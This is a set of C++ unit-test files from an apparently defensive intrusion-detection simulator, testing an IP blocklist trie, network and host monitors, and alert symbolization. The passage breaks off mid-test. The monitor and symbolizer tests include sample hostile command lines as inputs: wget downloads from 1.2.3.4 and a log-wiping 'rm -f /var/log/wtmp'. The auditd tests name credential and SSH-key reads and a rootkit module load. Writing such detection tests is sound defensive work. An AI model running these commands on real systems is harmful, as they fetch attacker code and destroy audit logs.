  EXPECT_FALSE(trie.lookup(ip, 0));
  // Fully cleared: the structure pruned back to empty.
  const auto stats = trie.stats();
  EXPECT_EQ(stats.l2_nodes, 0u);
  EXPECT_EQ(stats.leaves, 0u);
  EXPECT_EQ(stats.host_entries, 0u);
  EXPECT_EQ(stats.covers, 0u);
}

TEST(LpmTrie, CoversAtEveryLevelAndBoundaries) {
  LpmTrie trie;
  util::EpochGuard guard(trie.domain());
  const net::Cidr wide(net::Ipv4(10, 0, 0, 0), 15);    // L1 range: two /16s
  const net::Cidr mid(net::Ipv4(10, 2, 8, 0), 21);     // L2 range: eight /24s
  const net::Cidr narrow(net::Ipv4(10, 3, 3, 64), 26);  // leaf sub-range
  for (const auto& cidr : {wide, mid, narrow}) {
    trie.set_prefix(cidr, kPerm);
    EXPECT_TRUE(trie.lookup(cidr.base().value(), 0)) << cidr.str();
    EXPECT_TRUE(trie.lookup(cidr.last().value(), 0)) << cidr.str();
    EXPECT_FALSE(trie.lookup(cidr.base().value() - 1, 0)) << cidr.str();
    EXPECT_FALSE(trie.lookup(cidr.last().value() + 1, 0)) << cidr.str();
  }
}

TEST(LpmTrie, NestedMutationsMostRecentWins) {
  LpmTrie trie;
  util::EpochGuard guard(trie.domain());
  const net::Cidr net16(net::Ipv4(192, 168, 0, 0), 16);
  const net::Cidr net24(net::Ipv4(192, 168, 5, 0), 24);
  const std::uint32_t host = net::Ipv4(192, 168, 5, 9).value();

  trie.set_prefix(net16, kPerm);
  EXPECT_TRUE(trie.lookup(host, 0));
  // Narrower clear punches a hole through the wider cover.
  trie.set_prefix(net24, 0);
  EXPECT_FALSE(trie.lookup(host, 0));
  EXPECT_TRUE(trie.lookup(net::Ipv4(192, 168, 6, 1).value(), 0));
  // Host-level re-block inside the hole.
  trie.set_host(host, 50);
  EXPECT_TRUE(trie.lookup(host, 49));
  // Wider clear removes everything.
  trie.set_prefix(net16, 0);
  EXPECT_FALSE(trie.lookup(host, 0));
  const auto stats = trie.stats();
  EXPECT_EQ(stats.covers + stats.leaves + stats.l2_nodes + stats.host_entries, 0u);
}

TEST(LpmTrie, ClearMatchingSparesReblockedHosts) {
  LpmTrie trie;
  util::EpochGuard guard(trie.domain());
  const net::Cidr net24(net::Ipv4(198, 51, 100, 0), 24);
  const std::uint32_t survivor = net::Ipv4(198, 51, 100, 40).value();
  trie.set_prefix(net24, 500);     // TTL cover, expires at 500
  trie.set_host(survivor, kPerm);  // later, stronger block on one host
  EXPECT_TRUE(trie.clear_matching(net24, 500));  // the TTL reap at t=500
  EXPECT_TRUE(trie.lookup(survivor, 1000));
  EXPECT_FALSE(trie.lookup(survivor + 1, 0));
  // Reap again: nothing left that matches.
  EXPECT_FALSE(trie.clear_matching(net24, 500));
}

TEST(LpmTrie, ExactAggregationCollapsesFullLeavesAndNodes) {
  LpmTrie trie(1.0);
  util::EpochGuard guard(trie.domain());
  LpmTrie::MutationReport report;
  // 255 hosts: no collapse yet.
  for (std::uint32_t i = 0; i < 255; ++i) {
    trie.set_host(net::Ipv4(203, 9, 1, 0).value() + i, kPerm, &report);
  }
  EXPECT_TRUE(report.covers_added.empty());
  EXPECT_EQ(trie.stats().covers, 0u);
  // The 256th permanent host completes the /24: exact collapse, nothing
  // absorbed.
  trie.set_host(net::Ipv4(203, 9, 1, 255).value(), kPerm, &report);
  ASSERT_EQ(report.covers_added.size(), 1u);
  EXPECT_EQ(report.covers_added[0], net::Cidr(net::Ipv4(203, 9, 1, 0), 24));
  EXPECT_TRUE(report.absorbed.empty());
  const auto stats = trie.stats();
  EXPECT_EQ(stats.covers, 1u);
  EXPECT_EQ(stats.leaves, 0u);
  EXPECT_EQ(stats.host_entries, 0u);
  EXPECT_TRUE(trie.lookup(net::Ipv4(203, 9, 1, 77).value(), 0));

  // Covering all 256 /24s of the /16 collapses the node too.
  report.clear();
  trie.set_prefix(net::Cidr(net::Ipv4(203, 9, 0, 0), 16), kPerm, &report);
  const auto after = trie.stats();
  EXPECT_EQ(after.covers, 1u);
  EXPECT_EQ(after.l2_nodes, 0u);
}

TEST(LpmTrie, LossyAggregationAbsorbsAndOverBlocks) {
  LpmTrie trie(0.5);  // collapse at 128 permanent hosts in a /24
  util::EpochGuard guard(trie.domain());
  LpmTrie::MutationReport report;
  const std::uint32_t base = net::Ipv4(203, 77, 3, 0).value();
  trie.set_host(base + 200, 999);  // TTL'd bystander in the same /24
  for (std::uint32_t i = 0; i < 127; ++i) trie.set_host(base + i, kPerm, &report);
  EXPECT_TRUE(report.covers_added.empty());
  trie.set_host(base + 127, kPerm, &report);  // 128th: collapse
  ASSERT_EQ(report.covers_added.size(), 1u);
  ASSERT_EQ(report.absorbed.size(), 1u);
  EXPECT_EQ(report.absorbed[0].first, base + 200);
  EXPECT_EQ(report.absorbed[0].second, 999u);
  // Over-block: a never-blocked host in the net is now covered...
  EXPECT_TRUE(trie.lookup(base + 250, 0));
  // ...and the absorbed TTL host is now permanent.
  EXPECT_TRUE(trie.lookup(base + 200, 1'000'000));
}

TEST(LpmTrie, DensityAboveOneDisablesAggregation) {
  LpmTrie trie(1.5);
  util::EpochGuard guard(trie.domain());
  LpmTrie::MutationReport report;
  const std::uint32_t base = net::Ipv4(203, 80, 4, 0).value();
  for (std::uint32_t i = 0; i < 256; ++i) trie.set_host(base + i, kPerm, &report);
  EXPECT_TRUE(report.covers_added.empty());
  EXPECT_EQ(trie.stats().covers, 0u);
  EXPECT_EQ(trie.stats().host_entries, 256u);
}

// --- randomized property: trie vs mutation-log oracle ----------------------

class LpmTrieProperty : public ::testing::TestWithParam<int> {};

TEST_P(LpmTrieProperty, MatchesOracleOnRandomMutationTraces) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 7919 + 13);
  LpmTrie trie;  // exact density: the oracle knows nothing of aggregation
  MutationLog oracle;
  util::EpochGuard guard(trie.domain());

  // Universe: 203.16.0.0/14 (four /16s) — nested and adjacent prefixes at
  // every level the trie distinguishes.
  const net::Cidr universe(net::Ipv4(203, 16, 0, 0), 14);
  const std::uint32_t ubase = universe.base().value();

  const auto random_cidr = [&](unsigned min_len) {
    const auto len = static_cast<unsigned>(rng.uniform_int(
        static_cast<int>(min_len), 32));
    const std::uint32_t ip =
        ubase + static_cast<std::uint32_t>(
                    rng.uniform_int(0, static_cast<int>(universe.host_count()) - 1));
    return net::Cidr(net::Ipv4(ip), len);
  };
  const auto random_enc = [&]() -> std::uint64_t {
    const auto roll = rng.uniform_int(0, 9);
    if (roll < 4) return kPerm;
    return static_cast<std::uint64_t>(rng.uniform_int(1, 120));  // TTL word
  };

  std::vector<std::uint64_t> used_encs;
  for (int step = 0; step < 600; ++step) {
    const auto roll = rng.uniform_int(0, 99);
    if (roll < 35) {
      const std::uint32_t ip =
          ubase + static_cast<std::uint32_t>(
                      rng.uniform_int(0, static_cast<int>(universe.host_count()) - 1));
      const std::uint64_t enc = rng.uniform_int(0, 4) == 0 ? 0 : random_enc();
      trie.set_host(ip, enc);
      oracle.set_host(ip, enc);
      if (enc != 0) used_encs.push_back(enc);
    } else if (roll < 80) {
      const net::Cidr cidr = random_cidr(14);
      const std::uint64_t enc = rng.uniform_int(0, 4) == 0 ? 0 : random_enc();
      trie.set_prefix(cidr, enc);
      oracle.set_prefix(cidr, enc);
      if (enc != 0) used_encs.push_back(enc);
    } else if (!used_encs.empty()) {
      const net::Cidr cidr = random_cidr(14);
      const std::uint64_t enc = used_encs[static_cast<std::size_t>(
          rng.uniform_int(0, static_cast<int>(used_encs.size()) - 1))];
      trie.clear_matching(cidr, enc);
      oracle.clear_matching(cidr, enc);
    }

    if (step % 20 != 0) continue;
    // Probe random hosts plus the boundaries of every recorded mutation.
    std::vector<std::uint32_t> probes;
    for (int i = 0; i < 32; ++i) {
      probes.push_back(ubase + static_cast<std::uint32_t>(rng.uniform_int(
                                   0, static_cast<int>(universe.host_count()) - 1)));
    }
    for (const Mutation& op : oracle.ops()) {
      probes.push_back(op.cidr.base().value());
      probes.push_back(op.cidr.last().value());
      if (op.cidr.base().value() > ubase) probes.push_back(op.cidr.base().value() - 1);
      if (op.cidr.last().value() < universe.last().value()) {
        probes.push_back(op.cidr.last().value() + 1);
      }
    }
    for (const util::SimTime now : {util::SimTime{0}, util::SimTime{60}, util::SimTime{130}}) {
      for (const std::uint32_t probe : probes) {
        const bool expected = word_blocked(oracle.word(net::Ipv4(probe)), now);
        ASSERT_EQ(trie.lookup(probe, now), expected)
            << "step " << step << " ip " << net::Ipv4(probe).str() << " t " << now;
      }
      // Batched lookups agree with scalar lookups bit-for-bit.
      std::vector<util::SimTime> times(probes.size(), now);
      std::vector<std::uint8_t> out(probes.size(), 0xcc);
      trie.lookup_batch(probes.data(), times.data(), out.data(), probes.size());
      for (std::size_t i = 0; i < probes.size(); ++i) {
        ASSERT_EQ(out[i] != 0, trie.lookup(probes[i], now)) << "batch idx " << i;
      }
    }
  }

  // Tear-down property: clearing the universe leaves an empty structure.
  trie.set_prefix(universe, 0);
  const auto stats = trie.stats();
  EXPECT_EQ(stats.l2_nodes, 0u);
  EXPECT_EQ(stats.leaves, 0u);
  EXPECT_EQ(stats.host_entries, 0u);
  EXPECT_EQ(stats.covers, 0u);
}

INSTANTIATE_TEST_SUITE_P(Traces, LpmTrieProperty, ::testing::Range(0, 6));

}  // namespace
}  // namespace at
