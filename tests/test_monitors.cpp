// Monitor layer: Zeek-style windowed detections, osquery symbolization,
// auditd mapping, and the per-host tamper model.

#include <gtest/gtest.h>

#include "monitors/osquery_monitor.hpp"
#include "monitors/zeek_monitor.hpp"

namespace at::monitors {
namespace {

net::Flow flow_at(util::SimTime ts, net::Ipv4 src, net::Ipv4 dst, std::uint16_t port,
                  net::ConnState state = net::ConnState::kAttempt) {
  net::Flow flow;
  flow.ts = ts;
  flow.src = src;
  flow.dst = dst;
  flow.dst_port = port;
  flow.state = state;
  return flow;
}

const net::Ipv4 kScanner(9, 9, 9, 9);
const net::Ipv4 kInternal(141, 142, 0, 50);

TEST(ZeekMonitorTest, AddressScanFiresAtThreshold) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.address_scan_threshold = 10;
  ZeekMonitor zeek(sink, config);
  for (std::uint32_t i = 0; i < 10; ++i) {
    zeek.on_flow(flow_at(100 + i, kScanner, net::Ipv4(141, 142, 1, i), 22));
  }
  ASSERT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(sink.alerts()[0].type, alerts::AlertType::kAddressScan);
  // Only reported once per window.
  zeek.on_flow(flow_at(111, kScanner, net::Ipv4(141, 142, 1, 200), 22));
  EXPECT_EQ(sink.alerts().size(), 1u);
}

TEST(ZeekMonitorTest, PortScanFiresOnManyPorts) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.port_scan_threshold = 5;
  ZeekMonitor zeek(sink, config);
  for (std::uint16_t p = 1; p <= 5; ++p) {
    zeek.on_flow(flow_at(100 + p, kScanner, kInternal, p));
  }
  ASSERT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(sink.alerts()[0].type, alerts::AlertType::kPortScan);
}

TEST(ZeekMonitorTest, WindowResetsCounters) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.address_scan_threshold = 10;
  config.window = 100;
  ZeekMonitor zeek(sink, config);
  // 6 targets, long pause, 6 more: never 10 within one window.
  for (std::uint32_t i = 0; i < 6; ++i) {
    zeek.on_flow(flow_at(i, kScanner, net::Ipv4(141, 142, 1, i), 22));
  }
  for (std::uint32_t i = 0; i < 6; ++i) {
    zeek.on_flow(flow_at(1000 + i, kScanner, net::Ipv4(141, 142, 2, i), 22));
  }
  EXPECT_TRUE(sink.alerts().empty());
}

TEST(ZeekMonitorTest, SshBruteforce) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.bruteforce_threshold = 5;
  ZeekMonitor zeek(sink, config);
  for (int i = 0; i < 5; ++i) {
    zeek.on_flow(flow_at(10 + i, kScanner, kInternal, net::ports::kSsh,
                         net::ConnState::kRejected));
  }
  bool saw = false;
  for (const auto& alert : sink.alerts()) {
    saw |= alert.type == alerts::AlertType::kSshBruteforce;
  }
  EXPECT_TRUE(saw);
}

TEST(ZeekMonitorTest, DbProbeAndHostNames) {
  alerts::BufferSink sink;
  ZeekMonitor zeek(sink);
  zeek.set_host_name(kInternal, "pg-0");
  zeek.on_flow(flow_at(5, kScanner, kInternal, net::ports::kPostgres));
  ASSERT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(sink.alerts()[0].type, alerts::AlertType::kDbPortProbe);
  EXPECT_EQ(sink.alerts()[0].host, "pg-0");
  ASSERT_TRUE(sink.alerts()[0].src.has_value());
  EXPECT_EQ(*sink.alerts()[0].src, kScanner);
}

TEST(ZeekMonitorTest, BulkExfilOutbound) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.exfil_bytes_threshold = 1000;
  ZeekMonitor zeek(sink, config);
  auto flow = flow_at(5, kInternal, kScanner, 443, net::ConnState::kEstablished);
  flow.bytes_out = 5000;
  zeek.on_flow(flow);
  ASSERT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(sink.alerts()[0].type, alerts::AlertType::kDataExfiltrationBulk);
}

TEST(ZeekMonitorTest, BeaconDetection) {
  alerts::BufferSink sink;
  ZeekMonitor zeek(sink);
  // Perfectly periodic outbound connections -> C2 beacon notice.
  for (int i = 0; i < 5; ++i) {
    zeek.on_flow(flow_at(1000 + i * 300, kInternal, kScanner, 443,
                         net::ConnState::kEstablished));
  }
  bool saw = false;
  for (const auto& alert : sink.alerts()) {
    if (alert.type == alerts::AlertType::kC2Communication) {
      saw = true;
      EXPECT_NE(alert.find_meta("beacon-period-s"), nullptr);
    }
  }
  EXPECT_TRUE(saw);
}

TEST(ZeekMonitorTest, JitteryTrafficIsNotABeacon) {
  alerts::BufferSink sink;
  ZeekMonitor zeek(sink);
  const util::SimTime gaps[] = {10, 900, 50, 2000, 5, 700};
  util::SimTime t = 1000;
  for (const auto gap : gaps) {
    t += gap;
    zeek.on_flow(flow_at(t, kInternal, kScanner, 443, net::ConnState::kEstablished));
  }
  for (const auto& alert : sink.alerts()) {
    EXPECT_NE(alert.type, alerts::AlertType::kC2Communication);
  }
}

TEST(MonitorTamper, SilencesOnlyThatHost) {
  alerts::BufferSink sink;
  OsqueryMonitor monitor(sink);
  monitor.tamper("pg-0");
  ProcessEvent event;
  event.ts = 1;
  event.host = "pg-0";
  event.user = "postgres";
  event.cmdline = "wget http://1.2.3.4/abs.c";
  monitor.on_process(event);
  EXPECT_TRUE(sink.alerts().empty());
  EXPECT_EQ(monitor.suppressed(), 1u);

  event.host = "pg-1";
  monitor.on_process(event);
  EXPECT_EQ(sink.alerts().size(), 1u);
  monitor.restore("pg-0");
  event.host = "pg-0";
  monitor.on_process(event);
  EXPECT_EQ(sink.alerts().size(), 2u);
}

TEST(OsqueryMonitorTest, SymbolizesCommandLines) {
  alerts::BufferSink sink;
  OsqueryMonitor monitor(sink);
  ProcessEvent event;
  event.ts = 777;
  event.host = "node-1";
  event.user = "alice";
  event.cmdline = "gcc -o mod module.c";
  event.pid = 4242;
  monitor.on_process(event);
  ASSERT_EQ(sink.alerts().size(), 1u);
  const auto& alert = sink.alerts()[0];
  EXPECT_EQ(alert.type, alerts::AlertType::kCompileSource);
  EXPECT_EQ(alert.ts, 777);
  EXPECT_EQ(alert.host, "node-1");
  EXPECT_EQ(alert.origin, alerts::Origin::kOsquery);
  EXPECT_TRUE(alert.user.starts_with("user-"));  // sanitized
  ASSERT_NE(alert.find_meta("pid"), nullptr);
}

TEST(OsqueryMonitorTest, CountsUnmapped) {
  alerts::BufferSink sink;
  OsqueryMonitor monitor(sink);
  ProcessEvent event;
  event.cmdline = "ls -la";
  monitor.on_process(event);
  EXPECT_EQ(monitor.unmapped(), 1u);
  EXPECT_TRUE(sink.alerts().empty());
}

struct AuditCase {
  SyscallKind kind;
  const char* path;
  const char* detail;
  std::optional<alerts::AlertType> expected;
};

class AuditdMapping : public ::testing::TestWithParam<AuditCase> {};

TEST_P(AuditdMapping, MapsSyscalls) {
  alerts::BufferSink sink;
  AuditdMonitor monitor(sink);
  SyscallEvent event;
  event.ts = 1;
  event.host = "h";
  event.kind = GetParam().kind;
  event.path = GetParam().path;
  event.detail = GetParam().detail;
  monitor.on_syscall(event);
  if (GetParam().expected) {
    ASSERT_EQ(sink.alerts().size(), 1u);
    EXPECT_EQ(sink.alerts()[0].type, *GetParam().expected);
  } else {
    EXPECT_TRUE(sink.alerts().empty());
  }
}

INSTANTIATE_TEST_SUITE_P(
    Syscalls, AuditdMapping,
    ::testing::Values(
        AuditCase{SyscallKind::kOpen, "/etc/shadow", "", alerts::AlertType::kCredentialDump},
        AuditCase{SyscallKind::kOpen, "/home/a/.ssh/id_rsa", "",
                  alerts::AlertType::kSshKeyTheft},
        AuditCase{SyscallKind::kOpen, "/home/a/.ssh/known_hosts", "",
                  alerts::AlertType::kKnownHostsEnumeration},
        AuditCase{SyscallKind::kOpen, "/etc/hosts", "", std::nullopt},
        AuditCase{SyscallKind::kUnlink, "/var/log/auth.log", "",
                  alerts::AlertType::kLogTampering},
        AuditCase{SyscallKind::kUnlink, "/tmp/x", "", std::nullopt},
        AuditCase{SyscallKind::kExecve, "/tmp/kp", "", alerts::AlertType::kFileDroppedTmp},
        AuditCase{SyscallKind::kExecve, "/usr/bin/ls", "", std::nullopt},
        AuditCase{SyscallKind::kModuleLoad, "rootkit.ko", "",
                  alerts::AlertType::kInstallKernelModule},
        AuditCase{SyscallKind::kSetuid, "", "", alerts::AlertType::kPrivilegeEscalation},
        AuditCase{SyscallKind::kChmod, "/tmp/x", "4755",
                  alerts::AlertType::kSetuidBinaryCreated},
        AuditCase{SyscallKind::kChmod, "/tmp/x", "0644", std::nullopt},
        AuditCase{SyscallKind::kConnect, "", "1.2.3.4:443", std::nullopt}));

}  // namespace
}  // namespace at::monitors
