// Additional property sweeps: VRT snapshot monotonicity, symbolizer
// precedence, quadtree stress with coincident points, noise-model scaling,
// and catalog structural lint.

#include <gtest/gtest.h>

#include <cmath>

#include "util/stats.hpp"

#include "alerts/symbolizer.hpp"
#include "incidents/catalog.hpp"
#include "incidents/noise.hpp"
#include "viz/layout.hpp"
#include "vrt/snapshot.hpp"

namespace at {
namespace {

// --- VRT: archive consistency over time -----------------------------------

class SnapshotDateSweep : public ::testing::TestWithParam<int> {};

TEST_P(SnapshotDateSweep, VersionIntervalsAreConsistent) {
  // For every archive package at this year: the served version's validity
  // interval must actually contain the query date, and versions only move
  // forward in time (no flapping back).
  vrt::SnapshotArchive archive;
  const int year = GetParam();
  for (const auto& package : archive.packages()) {
    std::string previous;
    std::vector<std::string> seen_order;
    for (unsigned month = 1; month <= 12; ++month) {
      const util::CivilDate date{year, month, 15};
      const auto version = archive.version_at(package, date);
      if (!version) continue;
      // Interval containment.
      EXPECT_GE(util::days_from_civil(date), util::days_from_civil(version->available_from));
      if (version->superseded_on) {
        EXPECT_LT(util::days_from_civil(date),
                  util::days_from_civil(*version->superseded_on));
      }
      // Forward-only: once a version is superseded it never reappears.
      if (version->version != previous) {
        EXPECT_EQ(std::count(seen_order.begin(), seen_order.end(), version->version), 0)
            << package << " flapped back to " << version->version << " in " << year;
        seen_order.push_back(version->version);
        previous = version->version;
      }
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Years, SnapshotDateSweep,
                         ::testing::Values(2006, 2010, 2014, 2017, 2021, 2024));

// --- symbolizer precedence -------------------------------------------------

TEST(SymbolizerPrecedence, FirstMatchWins) {
  // "wget ... ldr.sh" matches both the .sh download rule and (potentially)
  // generic rules; the specific source-download pattern must win, and the
  // outcome must be stable across calls.
  alerts::Symbolizer symbolizer;
  const auto a = symbolizer.symbolize("12:00:00 [h] wget http://1.2.3.4/ldr.sh");
  const auto b = symbolizer.symbolize("12:00:00 [h] wget http://1.2.3.4/ldr.sh");
  ASSERT_TRUE(a.has_value());
  ASSERT_TRUE(b.has_value());
  EXPECT_EQ(a->alert.type, b->alert.type);
  EXPECT_EQ(a->matched_pattern, b->matched_pattern);
}

TEST(SymbolizerPrecedence, CompositeLinePicksMostSpecific) {
  // A line containing both a compile and a wipe indicator: one alert comes
  // out (the first matching rule), never two.
  alerts::Symbolizer symbolizer;
  const auto result = symbolizer.symbolize("12:00:00 [h] gcc x.c && rm -f /var/log/wtmp");
  ASSERT_TRUE(result.has_value());
  // Wipe rules precede compile rules in the library (stealth is the more
  // severe intent).
  EXPECT_EQ(result->alert.type, alerts::AlertType::kLogTampering);
}

// --- quadtree stress ---------------------------------------------------------

TEST(LayoutStress, ManyCoincidentPointsDoNotRecurseForever) {
  // All nodes at identical positions after seeding would be pathological;
  // force it by a single-seed graph with duplicate-position insertions —
  // the quadtree's coincident-leaf aggregation must terminate.
  viz::Graph graph;
  for (std::uint32_t i = 0; i < 200; ++i) {
    graph.node_for(net::Ipv4(10, 0, static_cast<std::uint8_t>(i >> 8),
                             static_cast<std::uint8_t>(i & 0xff)),
                   viz::NodeRole::kLegitimate);
  }
  // Zero iterations of movement still builds the tree each run; run one
  // iteration over nodes whose random placement may collide at low area.
  viz::LayoutOptions options;
  options.iterations = 3;
  options.area = 1.0;  // cram everything into a unit square
  const auto stats = viz::run_layout(graph, options);
  EXPECT_EQ(stats.iterations, 3u);
  for (const auto& node : graph.nodes()) {
    EXPECT_TRUE(std::isfinite(node.x));
    EXPECT_TRUE(std::isfinite(node.y));
  }
}

// --- noise model scaling ------------------------------------------------------

class NoiseScaling : public ::testing::TestWithParam<double> {};

TEST_P(NoiseScaling, MeanTracksConfiguredVolume) {
  incidents::NoiseConfig config;
  config.mean_daily = GetParam();
  config.stddev_daily = GetParam() / 5.0;
  incidents::DailyNoiseModel model(config);
  util::OnlineStats stats;
  for (const auto& day : model.sample_month(0, 200)) {
    stats.add(static_cast<double>(day.total));
  }
  EXPECT_NEAR(stats.mean(), GetParam(), GetParam() * 0.06);
}

INSTANTIATE_TEST_SUITE_P(Volumes, NoiseScaling, ::testing::Values(10'000.0, 94'238.0, 500'000.0));

// --- catalog structural lint ----------------------------------------------------

TEST(CatalogLint, SequencesStartWithObservableEntryActivity) {
  // Every attack starts with recon/access/execution activity — never with
  // persistence or damage out of nowhere (the threat model's "system is
  // assumed benign at the onset").
  incidents::Catalog catalog;
  for (const auto& seq : catalog.sequences()) {
    const auto first = alerts::category_of(seq.alerts.front());
    EXPECT_TRUE(first == alerts::Category::kRecon || first == alerts::Category::kAccess ||
                first == alerts::Category::kExecution)
        << seq.name;
  }
}

TEST(CatalogLint, FamiliesAreNamedAndMostlyDistinct) {
  incidents::Catalog catalog;
  std::set<std::string> families;
  for (const auto& seq : catalog.sequences()) {
    EXPECT_FALSE(seq.family.empty()) << seq.name;
    families.insert(seq.family);
  }
  EXPECT_EQ(families.size(), catalog.size());  // each sequence its own family
}

TEST(CatalogLint, MotifSequencesAreMajorityShort) {
  // Insight 2: the bulk of recurring sequences sit in the 2-5 range.
  incidents::Catalog catalog;
  std::size_t short_seqs = 0;
  for (const auto& seq : catalog.sequences()) {
    if (seq.alerts.size() <= 5) ++short_seqs;
  }
  EXPECT_GT(short_seqs, catalog.size() * 3 / 4);
}

}  // namespace
}  // namespace at
