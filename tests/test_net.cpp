// IPv4, CIDR, subnet allocation, and flow records.

#include <gtest/gtest.h>

#include "net/cidr.hpp"
#include "net/flow.hpp"

namespace at::net {
namespace {

TEST(Ipv4Test, ParseAndFormat) {
  const auto ip = Ipv4::parse("141.142.3.4");
  EXPECT_EQ(ip.str(), "141.142.3.4");
  EXPECT_EQ(ip.octet(0), 141);
  EXPECT_EQ(ip.octet(3), 4);
  EXPECT_EQ(Ipv4(0).str(), "0.0.0.0");
  EXPECT_EQ(Ipv4(255, 255, 255, 255).str(), "255.255.255.255");
}

class Ipv4ParseError : public ::testing::TestWithParam<const char*> {};

TEST_P(Ipv4ParseError, Rejects) {
  EXPECT_THROW(Ipv4::parse(GetParam()), std::invalid_argument);
}

INSTANTIATE_TEST_SUITE_P(Malformed, Ipv4ParseError,
                         ::testing::Values("", "1.2.3", "1.2.3.4.5", "256.1.1.1", "a.b.c.d",
                                           "1..2.3", "1.2.3.1024"));

TEST(Ipv4Test, AnonymizedMatchesPaperStyle) {
  // The paper prints "64.215.xxx.yyy" and "103.102" style prefixes.
  EXPECT_EQ(Ipv4(64, 215, 9, 88).anonymized(), "64.215.xxx.yyy");
  EXPECT_EQ(Ipv4(103, 102, 1, 2).anonymized(2), "103.102.xxx.yyy");
  EXPECT_EQ(Ipv4(10, 1, 2, 3).anonymized(1), "10.xxx.yyy.zzz");
}

TEST(Ipv4Test, OrderingAndHash) {
  EXPECT_LT(Ipv4(1, 0, 0, 0), Ipv4(2, 0, 0, 0));
  EXPECT_EQ(std::hash<Ipv4>{}(Ipv4(5)), std::hash<Ipv4>{}(Ipv4(5)));
}

TEST(CidrTest, ParseContainsAndCount) {
  const auto block = Cidr::parse("141.142.0.0/16");
  EXPECT_EQ(block.host_count(), 65536u);
  EXPECT_TRUE(block.contains(Ipv4(141, 142, 255, 255)));
  EXPECT_FALSE(block.contains(Ipv4(141, 143, 0, 0)));
  EXPECT_EQ(block.str(), "141.142.0.0/16");
}

TEST(CidrTest, CanonicalizesBase) {
  const Cidr block(Ipv4(141, 142, 7, 9), 16);
  EXPECT_EQ(block.base(), Ipv4(141, 142, 0, 0));
}

TEST(CidrTest, HostAccess) {
  const auto block = Cidr::parse("10.0.0.0/24");
  EXPECT_EQ(block.host(0), Ipv4(10, 0, 0, 0));
  EXPECT_EQ(block.host(255), Ipv4(10, 0, 0, 255));
  EXPECT_THROW((void)block.host(256), std::out_of_range);
}

TEST(CidrTest, Overlaps) {
  const auto wide = Cidr::parse("141.142.0.0/16");
  const auto narrow = Cidr::parse("141.142.250.0/24");
  EXPECT_TRUE(wide.overlaps(narrow));
  EXPECT_TRUE(narrow.overlaps(wide));
  EXPECT_FALSE(narrow.overlaps(Cidr::parse("10.0.0.0/8")));
}

TEST(CidrTest, PaperBlocks) {
  // The paper's address plan: a class-B /16 (65,536 hosts) and a dedicated
  // /24 for the honeypot entry points.
  EXPECT_EQ(blocks::ncsa16().host_count(), 65536u);
  EXPECT_EQ(blocks::honeypot24().host_count(), 256u);
  EXPECT_TRUE(blocks::ncsa16().contains(blocks::honeypot24().base()));
  EXPECT_FALSE(blocks::ncsa16().overlaps(blocks::overlay()));
}

TEST(SubnetAllocatorTest, DisjointChildren) {
  SubnetAllocator alloc(Cidr::parse("10.0.0.0/16"));
  const auto a = alloc.allocate(24);
  const auto b = alloc.allocate(24);
  EXPECT_FALSE(a.overlaps(b));
  EXPECT_TRUE(alloc.parent().contains(a.base()));
  EXPECT_EQ(alloc.allocated().size(), 2u);
}

TEST(SubnetAllocatorTest, AlignsAndExhausts) {
  SubnetAllocator alloc(Cidr::parse("10.0.0.0/24"));
  (void)alloc.allocate(26);  // 64 hosts
  const auto second = alloc.allocate(25);  // must align to 128
  EXPECT_EQ(second.base(), Ipv4(10, 0, 0, 128));
  EXPECT_THROW(alloc.allocate(25), std::runtime_error);
  EXPECT_THROW(alloc.allocate(8), std::invalid_argument);
}

TEST(FlowTest, RenderAndSummarize) {
  Flow flow;
  flow.src = Ipv4(1, 2, 3, 4);
  flow.dst = Ipv4(141, 142, 0, 5);
  flow.dst_port = ports::kPostgres;
  flow.state = ConnState::kAttempt;
  const auto text = flow.str();
  EXPECT_NE(text.find("5432"), std::string::npos);
  EXPECT_NE(text.find("S0"), std::string::npos);

  std::vector<Flow> flows(3, flow);
  flows[2].state = ConnState::kEstablished;
  flows[2].src = Ipv4(9, 9, 9, 9);
  const auto stats = summarize(flows);
  EXPECT_EQ(stats.flows, 3u);
  EXPECT_EQ(stats.attempts, 2u);
  EXPECT_EQ(stats.established, 1u);
  EXPECT_EQ(stats.distinct_sources, 2u);
  EXPECT_EQ(stats.distinct_destinations, 1u);
}

}  // namespace
}  // namespace at::net
