// Model persistence round trips (bit-exact) and corruption handling.

#include <gtest/gtest.h>

#include "fg/params_io.hpp"
#include "incidents/generator.hpp"
#include "util/logdomain.hpp"
#include "util/strings.hpp"

namespace at::fg {
namespace {

const ModelParams& trained() {
  static const ModelParams params = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return learn_params(incidents::CorpusGenerator(config).generate());
  }();
  return params;
}

TEST(ParamsIo, RoundTripIsBitExact) {
  const auto text = write_params(trained());
  const auto back = read_params(text);
  ASSERT_TRUE(back.has_value());
  ASSERT_EQ(back->log_prior.size(), trained().log_prior.size());
  for (std::size_t i = 0; i < trained().log_prior.size(); ++i) {
    EXPECT_EQ(back->log_prior[i], trained().log_prior[i]);
  }
  for (std::size_t i = 0; i < trained().log_transition.size(); ++i) {
    EXPECT_EQ(back->log_transition[i], trained().log_transition[i]);
  }
  for (std::size_t i = 0; i < trained().log_emission.size(); ++i) {
    EXPECT_EQ(back->log_emission[i], trained().log_emission[i]);
  }
}

TEST(ParamsIo, LoadedModelDetectsIdentically) {
  const auto back = read_params(write_params(trained()));
  ASSERT_TRUE(back.has_value());
  const std::vector<alerts::AlertType> attack = {alerts::AlertType::kDownloadSensitive,
                                                 alerts::AlertType::kCompileSource,
                                                 alerts::AlertType::kLogTampering};
  ForwardFilter original(trained());
  ForwardFilter reloaded(*back);
  for (const auto type : attack) {
    original.observe(type);
    reloaded.observe(type);
  }
  for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
    EXPECT_EQ(original.posterior()[s], reloaded.posterior()[s]);
  }
}

TEST(ParamsIo, RejectsCorruption) {
  const auto text = write_params(trained());
  EXPECT_FALSE(read_params("").has_value());
  EXPECT_FALSE(read_params("not a model").has_value());
  // Wrong magic.
